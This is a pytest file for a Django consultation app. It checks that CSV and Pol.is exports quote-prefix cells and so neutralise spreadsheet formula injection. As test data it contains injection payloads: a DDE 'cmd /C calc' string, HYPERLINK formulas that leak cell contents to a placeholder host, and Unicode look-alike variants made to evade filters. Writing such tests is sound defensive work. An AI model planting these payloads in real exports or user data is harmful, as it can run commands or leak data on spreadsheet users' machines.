"""The consultation downloads write text as text (issue 10, finding 6).

The adversary is a member who writes a statement (or an officer who names a consultation or
a constituent group) as a formula; the officer who opens the downloaded CSV in a spreadsheet
must see text. The Pol.is files must still be read back by `read_polis_export`.
"""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from pathlib import Path

import pytest

from kenes.agenda import exports
from kenes.agenda.models import Consultation, OpinionVote, Participant, Statement
from kenes.core.consensus import read_polis_export
from kenes.registry.models import ConstituentGroup

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+A1",
    "@SUM(A1:A9)",
    '\uff1dHYPERLINK("http://x/")',
    "\u2212A1",
    '=1;=HYPERLINK("http://x/")',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\u2212")


@pytest.fixture
def consultation():  # type: ignore[no-untyped-def]
    ConstituentGroup.objects.create(slug="evil", name='=HYPERLINK("http://x/")')
    made = Consultation.objects.create(
        title='=HYPERLINK("http://x/?"&B2)',
        question="@SUM(A1)",
        cutoff_on=datetime.date(2026, 11, 1),
        seed=7,
        phase="vote",
    )
    statements = [
        Statement.objects.create(consultation=made, text=text, created_on=made.cutoff_on)
        for text in [*FORMULAS, "Честные суды"]
    ]
    for i in range(6):
        participant = Participant.objects.create(
            consultation=made, key=f"k{i}", groups=["evil"], region_code=""
        )
        OpinionVote.objects.bulk_create(
            OpinionVote(statement=s, participant=participant, value=(1, -1, 0)[(i + j) % 3])
            for j, s in enumerate(statements)
        )
    return made


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS) or cell.lstrip("+-0123456789 ().,") == "", cell


def test_the_polis_files_hold_no_formula_and_are_read_back(consultation, tmp_path: Path):
    with zipfile.ZipFile(io.BytesIO(exports.polis_zip(consultation))) as archive:
        archive.extractall(tmp_path)
        files = {Path(n).name: archive.read(n) for n in archive.namelist()}
    for name, content in files.items():
        if name.endswith(".csv"):
            _assert_no_formula(_cells(content))
            # every field quoted: splitting on ";" cannot make a new field start a formula
            assert all(line.startswith('"') for line in content.decode().splitlines()), name
    bodies = [row[-1] for row in _cells(files["comments.csv"])[1:]]
    assert ["'" + text for text in FORMULAS] + ["Честные суды"] == bodies
    summary = dict(row[:2] for row in _cells(files["summary.csv"]))
    assert summary["conversation-description"] == "'@SUM(A1)"

    read = read_polis_export(tmp_path / f"consultation-{consultation.pk}")
    assert [s.text for s in read.statements] == bodies
    assert len(read.participants) == 6 and read.to_dense().shape == (6, len(bodies))


def test_the_report_csv_holds_no_formula(consultation):
    rows = _cells(exports.report_csv(consultation))
    _assert_no_formula(rows)
    assert any(cell.startswith("'=HYPERLINK") and "(evil)" in cell for cell in rows[0])
    assert [row[1] for row in rows[1:]] == ["'" + text for text in FORMULAS] + ["Честные суды"]
